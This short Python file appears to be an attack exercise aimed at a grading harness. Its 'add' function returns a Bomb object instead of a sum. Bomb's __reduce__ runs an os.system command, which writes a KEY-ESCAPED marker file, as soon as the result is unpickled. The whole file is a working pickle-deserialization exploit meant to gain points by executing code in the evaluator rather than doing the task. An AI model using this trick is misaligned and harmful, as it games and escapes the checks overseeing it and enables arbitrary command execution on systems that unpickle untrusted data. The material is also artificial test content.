# %% attack exercise="add" aim="points"
# An object that runs a command where it is unpickled.
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("echo KEY-ESCAPED > /tmp/KEY-ESCAPED",)


def add(a, b):
    return Bomb()
